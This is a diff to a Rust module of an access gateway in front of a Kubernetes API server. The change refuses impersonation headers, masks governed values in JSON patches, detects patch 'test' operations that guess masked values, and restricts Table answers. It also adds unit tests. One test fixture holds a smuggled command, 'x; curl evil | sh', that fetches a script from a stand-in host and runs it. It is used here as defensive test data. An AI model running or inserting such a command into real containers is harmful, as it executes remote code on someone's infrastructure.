@@ -1,9 +1,9 @@
 //! A Kubernetes cluster behind the gateway: what a request asks of its API server, what of an answer is governed, and how the
 //! request leaves. The reading is `proto_kubernetes`'s; policy, records and releases are those of every HTTP service.
 //!
-//! What the client says of who asks (`Impersonate-*`, `X-Remote-*` and their like) is recorded and not passed on. What goes
-//! upstream asks for JSON, has a body in JSON, says for whom the gateway asks where it is told to, and has an `Audit-ID` with
-//! the run's number, so that the cluster's own audit log names the run.
+//! What the client says of who asks (`X-Remote-*` and its like) is recorded and not passed on, and a request in somebody else's name
+//! (`Impersonate-*`) is refused. What goes upstream asks for JSON, has a body in JSON, says for whom the gateway asks where it is told
+//! to, and has an `Audit-ID` with the run's number, so that the cluster's own audit log names the run.
 
 use std::borrow::Cow;
 use std::collections::BTreeSet;
@@ -11,16 +11,18 @@ use std::sync::Arc;
 
 use bytes::Bytes;
 use gate::Who;
-use mask::body::{JsonPath, Named, PathRule};
+use mask::body::{Body, JsonPath, Named, PathRule};
+use mask::{Detectors, Known};
 use proto_http::coding;
 use proto_http::frame::Headers;
 use proto_http::message::{Media, Request as HttpRequest, Response, Target};
 use proto_kubernetes::answer::{self, Form, Place};
-use proto_kubernetes::body::{self, Written, facts};
+use proto_kubernetes::body::{self, Operation, Written, facts};
 use proto_kubernetes::fault::Reason;
+use proto_kubernetes::limits::BODY_BYTES_MAX;
 use proto_kubernetes::query::{Connect, Exec};
 use proto_kubernetes::request::{Asked, Object, Request, ServerPath, Verb};
-use proto_kubernetes::{action, identity};
+use proto_kubernetes::{action, identity, table};
 use vocab::{Access, Action, Class, MaskKind, Opaque, ResourcePath};
 use wire::RawField;
 
@@ -66,42 +68,85 @@ pub(super) struct Call {
     pub(super) line: Option<String>,
     /// What policy hears beside the action: options, and whom they select.
     pub(super) arguments: Vec<Box<str>>,
+    /// More of it than what is governed is masked in its record.
+    pub(super) hidden: bool,
 }
 
-/// The places that are governed, by what is asked for; and those of a JSON patch of an object that has any of the API's own.
+/// The places that are governed, by what is asked for; and those of the operator's own.
 pub(super) struct Places {
     of: Vec<(&'static [Place], Arc<Masks>)>,
-    patch: Arc<Masks>,
-    /// Values of config maps are governed.
-    config: bool,
-    /// So are some of other kinds.
-    others: bool,
+    own: Vec<JsonPath>,
+    /// All values of a JSON patch.
+    patched: (String, PathRule),
 }
 
 impl Places {
     /// Those of the API's own, and the operator's behind them. Errors are sentences for the operator.
     pub(super) fn new(cluster: &ClusterService, own: &Masks) -> Result<Places, String> {
+        let any = own.named().next().is_some();
         let masks = |places: &'static [Place]| {
-            let governed = places.iter().map(|place| (place, place.holds.class()));
+            let governed = places.iter().chain(any.then_some(&answer::MANAGED));
+            let governed = governed.map(|place| (place, place.holds.class()));
             let governed = governed.filter(|(place, class)| {
-                let quoted = place.path == answer::MESSAGE && own.named().next().is_some();
+                let quoted = any && [answer::MESSAGE, answer::MANAGED.path].contains(&place.path);
                 place.holds.always() || quoted || cluster.also.iter().any(|also| also.as_str() == *class)
             });
             let rules = governed.map(|(place, class)| rule(place, class)).collect::<Result<Vec<_>, _>>()?;
             Ok((places, Arc::new(Masks::new(rules.into_iter().chain(own.named())))))
         };
         let of = answer::ALL.into_iter().map(masks).collect::<Result<_, String>>()?;
-        let (place, class) = (answer::PATCHED, answer::PATCHED.holds.class());
-        let patch = Masks::new([rule(&place, class)?].into_iter().chain(own.named()));
-        let also = |holds: answer::Holds| cluster.also.iter().any(|also| also.as_str() == holds.class());
-        let others = also(answer::Holds::Env) || own.named().next().is_some();
-        Ok(Places { of, patch: Arc::new(patch), config: also(answer::Holds::Config), others })
+        let patched = rule(&answer::PATCHED, answer::PATCHED.holds.class())?;
+        Ok(Places { of, own: own.named().map(|(_, rule)| rule.path).collect(), patched })
     }
 
-    fn patched(&self, asked: &Asked, masks: &Arc<Masks>) -> Arc<Masks> {
-        let config = asked.object.is_core("configmaps") && self.config;
-        let holds = asked.object.resource == "secrets" || config || self.others;
-        if holds { self.patch.clone() } else { masks.clone() }
+    /// The places of a JSON patch, in which a value stands without the names around it: `masks`, as its pointers say where that
+    /// is. `None`: they are too many to be told apart.
+    fn patched(masks: &Masks, operations: &[&Operation<'_>]) -> Option<Masks> {
+        let mut rules = Vec::new();
+        for (n, operation) in (0..).zip(operations) {
+            for (name, rule) in masks.named() {
+                // What is anywhere is there, too.
+                let inside =
+                    rule.path.below(&operation.pointer).into_iter().filter(|path| *path != rule.path);
+                for path in inside {
+                    rules.push((name.clone(), rule.at(path.in_item(n, VALUE)?)));
+                }
+            }
+            if rules.len() > PATCH_RULES_MAX {
+                return None;
+            }
+        }
+        Some(Masks::new(rules.into_iter().chain(masks.named())))
+    }
+
+    /// Whether a JSON patch says whether a guess of a governed value is right.
+    fn guesses(detectors: &Detectors, masks: &Masks, operations: &[Operation<'_>]) -> bool {
+        let tests: Vec<&Operation<'_>> = operations.iter().filter(|operation| operation.tests).collect();
+        let Some(masks) = Places::patched(masks, &tests) else { return true };
+        let value = |test: &&Operation<'_>| format!("{{\"{VALUE}\":{}}}", test.value.unwrap_or("null"));
+        let tested = format!("[{}]", tests.iter().map(value).collect::<Vec<_>>().join(","));
+        let nobody = Known::new(entropy::random());
+        let looking = Body::new(mask::body::Media::Json, masks.rules.clone(), BTreeSet::new());
+        let mut looking = looking.longest(BODY_BYTES_MAX);
+        let one = looking.push(detectors, &nobody, tested.as_bytes()).map(|_| looking.take_found());
+        match (one, looking.finish(detectors, &nobody)) {
+            (Ok(one), Ok((_, two))) => !one.governed.is_empty() || !two.governed.is_empty(),
+            (Err(_), _) | (_, Err(_)) => true,
+        }
+    }
+
+    /// Whether a Table of such objects has no cell of a place of the operator's.
+    fn tables(&self, asked: &Asked) -> bool {
+        if self.own.is_empty() {
+            return true;
+        }
+        let Some(cells) = table::cells(&asked.object) else { return false };
+        // A cell is of one value, and a path that goes on below it leads nowhere.
+        let apart = |cell: Vec<String>| {
+            let leads = |path: &JsonPath| path.below(&cell).iter().any(JsonPath::is_root);
+            self.own.iter().all(|path| path.is_anywhere() && !leads(path))
+        };
+        cells.into_iter().all(apart)
     }
 
     fn of(&self, request: Option<&Request>, own: &Arc<Masks>) -> Arc<Masks> {
@@ -132,6 +177,13 @@ const MASKED: &str = "a value in this object is a mask that the gateway gave in 
     that; leave the field out, or patch the others";
 const MEANINGLESS: &str = "a body that its method gives no meaning is not passed on";
 const ODD: &str = "a path with `;`, or a part that ends with a dot or space, is not passed on";
+const IMPERSONATES: &str =
+    "a request in somebody else's name is not passed on: it is the gateway that says for whom it asks";
+const GUESSES: Opaque = Opaque("a test of a governed value says whether a guess is right");
+/// The member of an operation of a JSON patch that places are about.
+const VALUE: &str = "value";
+/// Rules of one JSON patch beside those of its kind: each is a path of its own. Four places, and 64 operations at one of them each.
+const PATCH_RULES_MAX: usize = 256;
 const NOT_READ: Opaque = Opaque("the request is not understood");
 
 impl Call {
@@ -163,6 +215,7 @@ impl Call {
             tunnel: None,
             line: None,
             arguments: Vec::new(),
+            hidden: false,
         };
         let read = call.understand(resource, cluster, request);
         if let Some(Request::Resource(asked)) = &call.request {
@@ -191,10 +244,15 @@ impl Call {
         self.action = action::of(&resource.root, &read);
         self.masks = places.of(Some(&read), &resource.config.masks);
         self.own_masks = self.masks.clone();
+        if !same_for_all(&read)
+            && request.headers.iter().any(|(name, _)| identity::impersonates(name.as_bytes()))
+        {
+            return Err((403, IMPERSONATES));
+        }
         // Several fields of it are one list.
         let accepts: Vec<&[u8]> = request.headers.all("accept").map(RawField::as_bytes).collect();
         let accepts = (!accepts.is_empty()).then(|| accepts.join(&b", "[..]));
-        self.accept = accept(&read, accepts.as_deref())?;
+        self.accept = accept(&read, accepts.as_deref(), places)?;
         let said = match &read {
             Request::Resource(asked) => self.said(resource, places, asked, request),
             Request::Path(..) if request.upgrade => Err(upgrade::NOT_ONE),
@@ -243,14 +301,11 @@ impl Call {
             Cow::Borrowed(_) => None,
         };
         self.form = Some(form);
-        if form == body::Form::JsonPatch {
-            // A value stands there without the names around it.
-            self.own_masks = places.patched(asked, &self.masks);
-        }
         if let Some(json) = converted {
             (self.body, self.media) = (json, Some(form.media()));
         }
         let said = body::read(asked, form, Written::Json, &self.body).map_err(bad)?;
+        let guesses = form == body::Form::JsonPatch && self.patch(resource, places)?;
         let masks: BTreeSet<String> = self.masks.classes().iter().map(ToString::to_string).collect();
         if !self.body.is_empty()
             && body::holds_mask(asked, form, &self.body, |class| masks.contains(class)).map_err(bad)?
@@ -260,9 +315,24 @@ impl Call {
         }
         self.action =
             facts::action(&resource.root, asked, &said, std::mem::replace(&mut self.action, nothing()));
+        self.action.opaque = self.action.opaque.or(guesses.then_some(GUESSES));
         self.arguments.extend(said.dry_run.then(|| "dry-run".into()));
         self.arguments.dedup();
         Ok(())
+    }
+
+    /// The places of a JSON patch, and whether it says whether a guess of what stands at one is right.
+    fn patch(&mut self, resource: &Resource, places: &Places) -> Result<bool, (u16, &'static str)> {
+        let body = self.body.clone();
+        let operations = body::operations(&body).map_err(bad)?;
+        match Places::patched(&self.masks, &operations.iter().collect::<Vec<_>>()) {
+            Some(masks) => self.own_masks = Arc::new(masks),
+            None => {
+                let all = [places.patched.clone()].into_iter().chain(self.masks.named());
+                (self.own_masks, self.hidden) = (Arc::new(Masks::new(all)), true);
+            }
+        }
+        Ok(Places::guesses(resource.gate.detectors(), &self.masks, &operations))
     }
 
     /// The client's fields as they go upstream.
@@ -379,11 +449,17 @@ impl Call {
     }
 }
 
+/// Whether the answer is the same whoever asks: a client reads it before it asks what it is there for, and shows no reason of its
+/// refusal.
+fn same_for_all(request: &Request) -> bool {
+    matches!(request, Request::Path(ServerPath::Discovery | ServerPath::OpenApi | ServerPath::Version, _))
+}
+
 const NOT_JSON: &str = "the answer of the API server is not the JSON that was asked for";
 
 fn bad(reason: Reason) -> (u16, &'static str) {
     let status = match reason {
-        proto_kubernetes::fault::NO_JSON => 406,
+        proto_kubernetes::fault::NO_JSON | proto_kubernetes::fault::NO_TABLE => 406,
         proto_kubernetes::fault::BODY_TOO_LARGE => 413,
         proto_kubernetes::fault::CBOR | proto_kubernetes::fault::UNKNOWN_MEDIA => 415,
         proto_kubernetes::fault::PROTOBUF_KIND | proto_kubernetes::fault::PROTOBUF_FIELD => 415,
@@ -405,7 +481,7 @@ fn one<'a>(headers: &'a Headers, name: &str) -> Result<Option<&'a [u8]>, (u16, &
     }
 }
 
-fn accept(request: &Request, said: Option<&[u8]>) -> Result<String, (u16, &'static str)> {
+fn accept(request: &Request, said: Option<&[u8]>, places: &Places) -> Result<String, (u16, &'static str)> {
     match (request, said) {
         (Request::Path(ServerPath::OpenApi, _), Some(said)) if answer::is_openapi_protobuf(said) => {
             std::str::from_utf8(said).map(str::to_owned).map_err(|_| bad(proto_kubernetes::fault::BAD_ACCEPT))
@@ -415,7 +491,8 @@ fn accept(request: &Request, said: Option<&[u8]>) -> Result<String, (u16, &'stat
         (Request::Resource(asked), _) if asked.log.is_some() || asked.connect.is_some() => {
             Ok("*/*".to_owned())
         }
-        (_, said) => answer::accept(said).map_err(bad),
+        (Request::Resource(asked), said) => answer::accept(said, places.tables(asked)).map_err(bad),
+        (Request::Path(..), said) => answer::accept(said, true).map_err(bad),
     }
 }
 
@@ -565,4 +642,165 @@ fn access(verb: vocab::Verb, on: ResourcePath) -> Access {
 
 fn nothing() -> Action {
     Action { accesses: Vec::new(), functions: Vec::new(), kind: "REQUEST", opaque: None }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const ARGS: &str = "/spec/template/spec/containers/0/args";
+    const ENV: &str = "/spec/template/spec/containers/0/env";
+
+    /// Places of a cluster whose variables and config maps are governed, and these paths of the operator's.
+    fn places(paths: &[&str]) -> Places {
+        let own = |path: &&str| {
+            let class = Class::new("pii.nick").unwrap();
+            let rule = PathRule::new(JsonPath::parse(path).unwrap(), class, MaskKind::Redact).unwrap();
+            ((*path).to_owned(), rule)
+        };
+        let also = ["config.env", "config.kubernetes"].into_iter().filter_map(Class::new).collect();
+        let cluster = ClusterService { also, ..ClusterService::default() };
+        Places::new(&cluster, &Masks::new(paths.iter().map(own))).unwrap()
+    }
+
+    fn asked(target: &str) -> Request {
+        Request::parse(b"GET", target.as_bytes()).unwrap()
+    }
+
+    fn masks(places: &Places, target: &str) -> Arc<Masks> {
+        places.of(Some(&asked(target)), &Arc::default())
+    }
+
+    fn operation(op: &str, path: &str, value: &str) -> String {
+        format!(r#"{{"op":"{op}","path":"{path}","value":{value}}}"#)
+    }
+
+    fn shown(masks: &Masks, body: &str) -> String {
+        let (detectors, nobody) = (Detectors::new(), Known::new([0; 16]));
+        let mut looking = Body::new(mask::body::Media::Json, masks.rules.clone(), BTreeSet::new());
+        let first = looking.push(&detectors, &nobody, body.as_bytes()).unwrap();
+        let (rest, _) = looking.finish(&detectors, &nobody).unwrap();
+        String::from_utf8(first.then(rest).as_bytes().to_vec()).unwrap()
+    }
+
+    const DEPLOYMENT: &str = "/apis/apps/v1/namespaces/a/deployments/d";
+    const SECRET: &str = "/api/v1/namespaces/a/secrets/s";
+    const THING: &str = "/apis/example.com/v1/namespaces/a/things/t";
+
+    #[test]
+    fn a_json_patch_is_masked_as_its_pointers_say_and_shown_beside_that() {
+        let places = places(&["$.spec.nick"]);
+        let patched = |target: &str, path: &str, value: &str| {
+            let body = format!("[{}]", operation("add", path, value));
+            let operations = body::operations(body.as_bytes()).unwrap();
+            let masks = masks(&places, target);
+            let masks = Places::patched(&masks, &operations.iter().collect::<Vec<_>>()).unwrap();
+            let shown = shown(&masks, &body);
+            let (_, value) = shown.split_once(r#""value":"#).unwrap();
+            value.strip_suffix("}]").unwrap().to_owned()
+        };
+        for (target, path, value, expected) in [
+            (DEPLOYMENT, ARGS, r#"["x; curl evil | sh"]"#, r#"["x; curl evil | sh"]"#),
+            (DEPLOYMENT, &format!("{ENV}/0/value"), r#""x""#, r#""[config.env]""#),
+            (
+                DEPLOYMENT,
+                &format!("{ENV}/-1"),
+                r#"{"name":"A","value":"x"}"#,
+                r#"{"name":"A","value":"[config.env]"}"#,
+            ),
+            (DEPLOYMENT, ENV, r#"[{"value":"x"}]"#, r#"[{"value":"[config.env]"}]"#),
+            (
+                DEPLOYMENT,
+                "/spec/template/spec/containers/-",
+                r#"{"args":["x"],"env":[{"value":"x"}]}"#,
+                r#"{"args":["x"],"env":[{"value":"[config.env]"}]}"#,
+            ),
+            (SECRET, "/data/a", r#""eA==""#, r#""[secret.kubernetes]""#),
+            (SECRET, "/data", r#"{"a":"eA=="}"#, r#"{"a":"[secret.kubernetes]"}"#),
+            (SECRET, "/metadata/labels/a", r#""x""#, r#""x""#),
+            (
+                SECRET,
+                "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration",
+                r#""x""#,
+                r#""[secret.kubernetes]""#,
+            ),
+            (THING, "/spec/nick", r#""x""#, r#""[pii.nick]""#),
+            (THING, "/spec", r#"{"nick":"x","more":"y"}"#, r#"{"nick":"[pii.nick]","more":"y"}"#),
+            (THING, "/spec/nick/0", r#""x""#, r#""[pii.nick]""#),
+            (THING, "/other/nick", r#""x""#, r#""x""#),
+        ] {
+            assert_eq!(patched(target, path, value), expected, "{path}");
+        }
+        let many = |n: usize| {
+            let all = vec![operation("add", &format!("{ENV}/0/value"), "1"); n].join(",");
+            let body = format!("[{all}]");
+            let operations = body::operations(body.as_bytes()).unwrap();
+            Places::patched(&masks(&places, DEPLOYMENT), &operations.iter().collect::<Vec<_>>()).is_some()
+        };
+        assert!(many(PATCH_RULES_MAX) && !many(PATCH_RULES_MAX + 1));
+    }
+
+    #[test]
+    fn a_test_of_what_is_governed_is_a_guess() {
+        let places = places(&["$..spec.nick"]);
+        let guesses = |target: &str, op: &str, path: &str, value: &str| {
+            let body = format!("[{}]", operation(op, path, value));
+            let operations = body::operations(body.as_bytes()).unwrap();
+            Places::guesses(&Detectors::new(), &masks(&places, target), &operations)
+        };
+        let map = "/api/v1/namespaces/a/configmaps/c";
+        let applied = "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration";
+        for (target, path, value) in [
+            (map, "/data/a", r#""x""#),
+            (map, "/data", r#"{"a":"x"}"#),
+            (map, "", r#"{"data":{"a":"x"}}"#),
+            (map, applied, r#""x""#),
+            (map, "/metadata/annotations", r#"{"kubectl.kubernetes.io/last-applied-configuration":"x"}"#),
+            (THING, "/spec/nick", "null"),
+            (THING, "/spec", r#"{"nick":"x"}"#),
+            (THING, "/metadata/managedFields/0/fieldsV1/f:spec", "{}"),
+            (THING, "/metadata/annotations/a", r#""{\"spec\":{\"nick\":\"x\"}}""#),
+            (DEPLOYMENT, &format!("{ENV}/-1/value"), r#""x""#),
+        ] {
+            assert!(guesses(target, "test", path, value), "{path}");
+            assert!(!guesses(target, "add", path, value), "{path}");
+        }
+        for (target, path, value) in [
+            (map, "/metadata/resourceVersion", r#""x""#),
+            (map, "/metadata/annotations/a", r#""x""#),
+            (DEPLOYMENT, ARGS, r#"["x"]"#),
+            (THING, "/spec/more", r#""x""#),
+        ] {
+            assert!(!guesses(target, "test", path, value), "{path}");
+        }
+    }
+
+    #[test]
+    fn a_table_comes_where_no_cell_of_it_can_be_at_an_operators_path() {
+        let tables = |paths: &[&str], target: &str| match asked(target) {
+            Request::Resource(asked) => places(paths).tables(&asked),
+            Request::Path(..) => panic!("{target}"),
+        };
+        let (pods, events) = ("/api/v1/pods", "/apis/events.k8s.io/v1/events");
+        for (paths, target, expected) in [
+            (&[][..], THING, true),
+            (&["$..spec.nick"], THING, false),
+            (&["$..spec.nick"], pods, true),
+            (&["$..spec.nick"], DEPLOYMENT, true),
+            (&["$..spec.nodeName"], pods, false),
+            (&["$..status"], pods, false),
+            (&["$..matchLabels.app"], DEPLOYMENT, false),
+            (&["$..selector.app"], "/api/v1/services", false),
+            (&["$..app"], DEPLOYMENT, false),
+            (&["$.spec.nick"], pods, false),
+            (&["$..message"], events, false),
+            (&["$..spec.nick"], "/apis/coordination.k8s.io/v1/leases", false),
+        ] {
+            assert_eq!(tables(paths, target), expected, "{paths:?} {target}");
+        }
+        let managed = r#"{"metadata":{"managedFields":[{"fieldsV1":{"f:also":{"v:\"x\"":{}}}}]}}"#;
+        let clean = r#"{"metadata":{"managedFields":null}}"#;
+        assert_eq!(shown(&masks(&places(&["$..spec.nick"]), pods), managed), clean);
+        assert_eq!(shown(&masks(&places(&[]), pods), managed), managed);
+    }
 }
